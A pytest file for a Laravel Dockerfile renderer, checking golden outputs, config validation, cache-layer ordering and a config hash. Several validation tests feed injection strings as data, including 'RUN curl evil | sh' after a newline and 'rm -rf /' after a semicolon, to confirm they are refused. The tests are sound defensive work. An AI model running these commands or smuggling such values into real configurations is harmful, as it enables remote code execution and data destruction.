"""The managed Laravel Dockerfile: golden files, config validation, reuse hash."""
from pathlib import Path

import pytest

from app.builds import BuildConfigError, config_hash, parse_build_config, render_dockerfile
from app.models.enums import BuildStrategy

GOLDEN = Path(__file__).parent / "golden"
CASES = {
    "Dockerfile.laravel.default": {},
    "Dockerfile.laravel.bun-sandbox": {"base_image": "keystone-sandbox/php-base:8.3-fpm",
                                       "js_tool": "bun", "php_version": "8.4",
                                       "document_root": "web",
                                       # a legacy key: the web service owns the health path
                                       "health_path": "/healthz"},
    "Dockerfile.laravel.node-custom": {"js_tool": "node", "js_image": "node:20-alpine",
                                       "js_command": 'npm ci && npm run build -- --mode production "$X"'},
}


@pytest.mark.parametrize("name", sorted(CASES))
def test_dockerfile_matches_golden_file(name):
    rendered = render_dockerfile(parse_build_config(CASES[name]))
    assert rendered == (GOLDEN / name).read_text(), (
        f"regenerate tests/unit/golden/{name} if this change is intended")


def test_default_dockerfile_follows_the_runtime_defaults():
    text = render_dockerfile(parse_build_config({}))
    assert text.splitlines()[2] == "FROM serversideup/php:8.3-frankenphp"
    assert "composer install --no-dev --optimize-autoloader --no-interaction" in text
    assert "CADDY_SERVER_ROOT=/var/www/html/public" in text
    assert "AUTORUN_ENABLED=false" in text          # Keystone runs migrations itself
    assert "ENV KEYSTONE_COMMIT=${KEYSTONE_COMMIT}" in text
    assert "KEYSTONE_HEALTH_PATH=/up" in text and "http://127.0.0.1:8080/" in text
    assert "AS assets" not in text                  # no JS build unless chosen


def test_php_version_selects_the_base_image():
    text = render_dockerfile(parse_build_config({"php_version": "8.4"}))
    assert "FROM serversideup/php:8.4-frankenphp" in text


def test_js_command_cannot_add_dockerfile_instructions():
    config = parse_build_config({"js_tool": "bun", "js_command": 'bun run build && echo "RUN x"'})
    text = render_dockerfile(config)
    assert 'RUN ["sh", "-c", "bun run build && echo \\"RUN x\\""]' in text
    with pytest.raises(BuildConfigError, match="build_config/js_command"):
        parse_build_config({"js_tool": "bun", "js_command": "bun run build\nRUN curl evil | sh"})


@pytest.mark.parametrize("raw,path", [
    ({"php_version": "8.3; rm -rf /"}, "php_version"),
    ({"php_version": "latest"}, "php_version"),
    ({"base_image": "alpine\nRUN id"}, "base_image"),
    ({"base_image": "--build-arg=x"}, "base_image"),
    ({"base_image": "UPPER/case"}, "base_image"),
    ({"document_root": "../etc"}, "document_root"),
    ({"document_root": "public\nRUN id"}, "document_root"),
    ({"js_tool": "yarn"}, "js_tool"),
    ({"js_image": "node:20 AS x"}, "js_image"),
    ({"strategy": "magic"}, "strategy"),
    ({"strategy": "external_registry"}, "image"),
    ({"builder_service_id": "x"}, "builder_service_id"),
])
def test_invalid_settings_are_refused_naming_their_path(raw, path):
    with pytest.raises(BuildConfigError, match=f"^build_config/{path}:"):
        parse_build_config(raw)


def test_image_references():
    for ok in ["serversideup/php:8.3-frankenphp", "127.0.0.1:5055/keystone-sandbox/php-base:8.3-fpm",
               "ghcr.io/acme/shop@sha256:" + "a" * 64, "registry.example.com:5000/a/b/c:1.0"]:
        assert parse_build_config({"base_image": ok}).effective_base_image == ok


def test_config_hash_changes_with_the_dockerfile_only():
    a = parse_build_config({})
    b = parse_build_config({"strategy": BuildStrategy.DEDICATED_BUILDER.value})
    c = parse_build_config({"php_version": "8.4"})
    ha = config_hash(a, render_dockerfile(a))
    assert ha == config_hash(b, render_dockerfile(b))      # where it is built does not matter
    assert ha != config_hash(c, render_dockerfile(c))
    assert len(ha) == 64


def test_to_json_round_trips():
    config = parse_build_config(CASES["Dockerfile.laravel.bun-sandbox"])
    assert parse_build_config(config.to_json()) == config


def test_composer_dependencies_are_a_layer_of_their_own_before_the_source():
    """A commit that changes PHP files only reuses the `composer install` layer (issue 20.4):
    composer.json/composer.lock are copied and installed before the source and before the
    per-build ARGs (a RUN after an ARG misses the cache whenever the ARG's value changes)."""
    for raw in CASES.values():
        lines = render_dockerfile(parse_build_config(raw)).splitlines()
        runtime = lines.index(next(ln for ln in lines if ln.startswith("FROM ")
                                   and "AS assets" not in ln))
        deps_copy = lines.index("COPY --chown=www-data:www-data composer.json composer.lock* "
                                "/var/www/html/")
        deps_install = next(i for i, ln in enumerate(lines)
                            if ln.startswith("RUN composer install") and "--no-scripts" in ln)
        source = lines.index("COPY --chown=www-data:www-data . /var/www/html")
        first_arg = next(i for i, ln in enumerate(lines) if ln.startswith("ARG "))
        assert runtime < deps_copy < deps_install < first_arg < source
        assert "--no-autoloader" in lines[deps_install] and "--no-dev" in lines[deps_install]
        # Between the dependency layer and the source: nothing that reads the source.
        assert not any(ln.startswith(("COPY", "ADD")) for ln in lines[deps_install + 1:source])
        # After the source: the autoloader and the scripts (a second, download-free install).
        final = next(ln for ln in lines[source:] if ln.startswith("RUN composer install"))
        assert "--optimize-autoloader" in final and "--no-scripts" not in final
